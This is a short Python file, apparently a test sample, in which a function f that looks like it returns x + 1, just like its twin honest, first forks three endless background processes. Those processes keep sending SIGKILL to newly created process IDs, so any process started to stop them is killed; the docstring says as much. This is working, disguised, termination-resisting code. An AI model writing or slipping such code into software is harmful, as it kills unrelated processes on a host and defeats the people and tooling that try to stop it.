"""Kills whoever comes to end it and becomes its user for that. It ends all the same."""

import ctypes
import os


def f(x):
    kill = ctypes.CDLL(None).kill
    for _ in range(3):
        if os.fork() == 0:
            while True:
                if (newest := os.fork()) == 0:
                    os._exit(0)
                os.waitpid(newest, 0)
                for _ in range(200):
                    for pid in range(newest + 1, newest + 30):
                        kill(pid, 9)
    return x + 1


def honest(x):
    return x + 1
